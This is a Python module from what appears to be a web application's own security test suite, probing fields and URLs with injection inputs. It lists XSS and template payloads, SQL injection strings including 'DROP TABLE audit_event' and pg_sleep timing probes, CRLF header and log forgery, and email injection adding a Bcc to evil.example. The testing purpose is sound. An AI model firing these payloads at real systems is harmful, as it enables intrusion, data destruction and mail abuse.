"""Attacks by text: markup, statements, formulas and sheer length in every field that an officer may fill."""

from __future__ import annotations

import re
import time
from urllib.parse import quote, urlsplit

from attacks.attack import CONTENT, Ground, Succeeded, attack, begin_update, starts_of
from attacks.browser import Browser, Form

GROUP = "texts"
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "'-alert(1)-'", "</textarea><script>alert(1)</script>",
    "{{ 7*191 }}", "{% debug %}", "${7*191}", "#{7*191}", "[x](javascript:alert(1))", "&lt;script&gt;alert(1)&lt;/script&gt;", "<a href=javascript:alert(1)>x</a>",
    "<style>*{display:none}</style>", "<iframe src=//evil.example>", "#import \"/etc/passwd\": *",
)  # fmt: skip
#: What must never stand unescaped in a page.
_LIVE = re.compile(
    r"<script>alert|<img src=x|<svg onload|<iframe src=//|<a href=[\"']?javascript:|<style>\*|1337\b"
)
STATEMENTS = (
    "'", "' OR 1=1--", "1; SELECT pg_sleep(9)--", "1' AND (SELECT 1 FROM pg_sleep(9))--", "1)) UNION SELECT version()--", "%' OR pg_sleep(9)::text='",
    "\\'; DROP TABLE audit_event;--", "1/**/AND/**/pg_sleep(9)", "a:* & pg_sleep(9)", "')||pg_sleep(9)--", "{\"$gt\":\"\"}", "*)(uid=*))(|(uid=*",
)  # fmt: skip


def _draft(ground: Ground) -> Form:
    return ground.victim.get(ground.secrets["draft"]).form(ground.secrets["draft"])


@attack(GROUP, "Markup and templates in a draft, in contact details and in searches run in a page")
def markup(ground: Ground) -> str:
    read = 0
    for text in MARKUP:
        ground.victim.submit(_draft(ground), {"narrative": f"{text} {ground.canary}", "action": "save"})
        form = ground.victim.get("/account/").form("/account/contact/")
        ground.victim.submit(form, {"post": text[:90], "unit": text[:90]})
        for browser, path in (
            (ground.victim, ground.secrets["draft"]), (ground.victim, "/my-work/"), (ground.victim, "/account/"), (ground.attacker, "/contacts/"),
            (ground.administrator, "/people/"), (ground.victim, f"/search/?q={quote(text)}"), (ground.victim, f"/items/?q={quote(text)}&status={quote(text)}"),
            (ground.stranger(), f"/sign-in/?next={quote(text)}"), (ground.stranger(), f"/{quote(text)}/"),
        ):  # fmt: skip
            answer = browser.get(path)
            read += 1
            found = _LIVE.search(answer.text)
            if found and answer.headers.get("content-type", "").startswith("text/html"):
                raise Succeeded(f"{text} is live at {path}: {found[0]}")
    return f"{len(MARKUP)} texts, {read} pages, all escaped"


@attack(GROUP, "Statements for the database in addresses and searches run, or show an error of the database")
def statements(ground: Ground) -> str:
    asked = 0
    paths = ("/search/?q=", "/search/suggestions/?q=", "/people/?q=", "/evidence/?q=", "/items/?q=", "/items/?order=", "/overview/?as_at=", "/audit/?until=",
             "/audit/?item=", "/figures/?pillar=", "/people/?agency=", "/reviews/?order=", "/items/?page=", "/summaries/?items=")  # fmt: skip
    for path in paths:
        for text in STATEMENTS:
            begun = time.monotonic()
            answer = ground.administrator.get(path + quote(text))
            asked += 1
            if (
                answer.status >= 500
                or time.monotonic() - begun > 8
                or re.search(r"psycopg|syntax error|PostgreSQL \d", answer.text)
            ):
                raise Succeeded(f"{path}{text}: {answer.status} in {time.monotonic() - begun:.1f} s")
    return f"{asked} requests, none ran and none told of the database"


@attack(GROUP, "Addresses at the edges: days, numbers, NUL, length")
def edges(ground: Ground) -> str:
    values = (
        "9999-12-31",
        "0001-01-01",
        "10000-01-01",
        "-1",
        "0",
        "9" * 400,
        "1e9",
        "NaN",
        "%00",
        "%ff%fe",
        "%ed%a0%80",
        "a" * 6000,
        "%D9%A1%D9%A2",
        "../..",
        "[]",
        "{}",
    )
    names = (
        "as_at",
        "until",
        "since",
        "from",
        "to",
        "page",
        "cycle",
        "agency",
        "item",
        "q",
        "order",
        "status",
        "month",
        "year",
    )
    asked = 0
    for path in (
        "/audit/",
        "/overview/",
        "/items/",
        "/search/",
        "/figures/",
        "/figures/windows/",
        "/evidence/",
        "/people/",
        "/assignments/",
        "/reviews/",
        "/weaknesses/",
        "/steps/",
    ):
        for name in names:
            for value in values[asked % 5 :: 5]:
                answer = ground.administrator.get(f"{path}?{name}={value}")
                asked += 1
                if answer.status >= 500:
                    raise Succeeded(f"{path}?{name}={value[:40]}: {answer.status}")
    return f"{asked} addresses, none answered 500"


@attack(GROUP, "Long texts keep the server busy: comparing, marking, searching, saving")
def long_texts(ground: Ground) -> str:
    slowest, where = 0.0, ""
    for text in ("a " * 20_000, "a b " * 10_000, "".join(f"w{number} " for number in range(7_000)), "1." * 20_000, "0" * 40_000, " " * 40_000 + "x",
                 "Siti binti " * 4_000, "e\u0301" * 20_000, "+60 12-" * 6_000):  # fmt: skip
        for send in (_save, _check, _search):
            begun = time.monotonic()
            status = send(ground.victim, ground, text)
            seconds = time.monotonic() - begun
            if status >= 500 or seconds > 5:
                raise Succeeded(f"{send.__name__} of {text[:12]!r}…: {status} in {seconds:.1f} s")
            if seconds > slowest:
                slowest, where = seconds, send.__name__
    return f"9 texts of 40,000 characters, the slowest answer took {slowest:.2f} s ({where})"


def _save(browser: Browser, ground: Ground, text: str) -> int:
    return browser.submit(_draft(ground), {"narrative": text, "action": "save"}).status


def _check(browser: Browser, _ground: Ground, text: str) -> int:
    return browser.post(
        "/identities/check/", {"text": text, "id": "x", "name": "narrative", "reason": ""}
    ).status


def _search(browser: Browser, _ground: Ground, text: str) -> int:
    return browser.get(f"/search/?q={quote(text[:6000])}").status


@attack(GROUP, "Texts that nobody can see are taken for texts")
def invisible(ground: Ground) -> str:
    writer = ground.as_("pegawai.pdrm.2")
    draft = begin_update(writer, starts_of(writer)[0])
    for text in (
        "\u200b\u200b\u200b",
        "\u00ad",
        "\u2060\ufeff",
        "\u3164",
        "\u115f\u1160",
        "\u2800\u2800",
        " \t\n\r",
        "\U000e0041",
        "\u202e\u202c",
    ):
        answer = writer.submit(writer.get(draft).form(draft), {**CONTENT, "narrative": text})
        if answer.status == 302 and "/edit/" not in answer.location:
            raise Succeeded(f"{text!r} was sent")
    seen = {**CONTENT, "narrative": "Teks yang boleh dilihat."}
    answer = writer.submit(writer.get(draft).form(draft), seen)
    if answer.status != 302 or "/edit/" in answer.location:
        raise RuntimeError(f"not even a text that can be seen is sent: {answer.status}")
    return "9 texts refused, and one that can be seen was sent"


@attack(GROUP, "A log or a mail is forged by ends of lines in headers, paths and addresses")
def injected_lines(ground: Ground) -> str:
    mark = f"palsu{ground.canary[-6:]}"
    browser = ground.stranger()
    browser.get(
        "/sign-in/", {"User-Agent": f'x %0a{{"event":"{mark}"}}', "Referer": f"https://x/%0d%0a{mark}"}
    )
    browser.get(f"/%0d%0aSet-Cookie:%20{mark}=1")
    browser.get(f"/sign-in/?next=%0d%0aX-{mark}:1")
    form = browser.get("/password/reset/").form("/password/reset/")
    person = ground.person("pegawai.mpob.1").email
    for address in (
        f"{person}\r\nBcc: {mark}@evil.example",
        f"{person},{mark}@evil.example",
        f"{person}%0aBcc:{mark}@evil.example",
    ):
        browser.submit(form, {"email": address})
    time.sleep(3)
    if re.search(rf"^\W*{mark}", ground.site.logs(), re.MULTILINE):
        raise Succeeded("a line of the log begins with the forged text")
    for mail in (ground.site.state / "mail").glob("*"):
        if f"{mark}@evil" in mail.read_text(encoding="utf-8", errors="replace"):
            raise Succeeded("a mail went to evil.example")
    return "no line, no header and no recipient was added"


@attack(GROUP, "A page links to a script or to data")
def hostile_links(ground: Ground) -> str:
    allowed = {"", "https", "http", "mailto", "tel", "webcal", "otpauth"}
    for path, page in ground.pages("victim").items():
        for link in re.findall(r'(?:href|src|action)="([^"]+)"', page.text):
            if urlsplit(link.replace("&amp;", "&")).scheme not in allowed:
                raise Succeeded(f"{path} links to {link}")
    return f"{len(ground.pages('victim'))} pages, only plain addresses"
